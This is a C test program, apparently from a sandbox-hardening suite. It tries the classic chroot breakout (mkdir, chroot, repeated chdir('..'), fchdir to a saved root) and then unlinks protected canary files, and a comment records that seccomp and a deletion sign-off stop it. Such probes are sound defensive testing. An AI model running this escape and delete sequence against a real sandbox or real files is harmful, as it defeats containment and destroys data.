// attack: escape: chroot (into the workspace, then the classic mkdir/chroot/chdir("..") breakout) and destroy the canary through the new root
// stopped by: seccomp(chroot), sign-off(delete)
#define _GNU_SOURCE
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
    char f[2][256], cwd[4096], p[4096];
    if (canary_files(canary, f, 2) < 2) { fprintf(stderr, "fewer than 2 canary files\n"); return 2; }
    if (!getcwd(cwd, sizeof cwd)) return 1;
    int root = open("/", O_PATH | O_DIRECTORY);
    mkdir("escape-jail", 0755);
    errno = 0; show("chroot(escape-jail)", chroot("escape-jail"));
    // Breakout: we are outside the new root (cwd), walk up and make the real / the root again.
    for (int i = 0; i < 64; i++) chdir("..");
    errno = 0; show("chroot(.) after chdir(..) x64", chroot("."));
    errno = 0; show("fchdir(saved /) + chroot(.)", fchdir(root) == 0 ? chroot(".") : -1);
    chdir(cwd);
    // In the workspace as the root: the canary is then "/protected/..." (if the chroot took).
    errno = 0; show("chroot(workspace)", chroot(cwd));
    snprintf(p, sizeof p, "/%s/%s", strrchr(canary, '/') + 1, f[0]);
    char label[4400];
    snprintf(label, sizeof label, "unlink(%s) inside the workspace root", p);
    errno = 0; show(label, unlink(p));
    snprintf(p, sizeof p, "%s/%s", canary, f[1]);
    snprintf(label, sizeof label, "unlink(%s)", p);
    errno = 0; show(label, unlink(p));
    snprintf(p, sizeof p, "%s/%s", canary + strlen(cwd), f[1]);
    errno = 0; show("unlink(same, relative to the new root)", unlink(p));
    return 0;
}
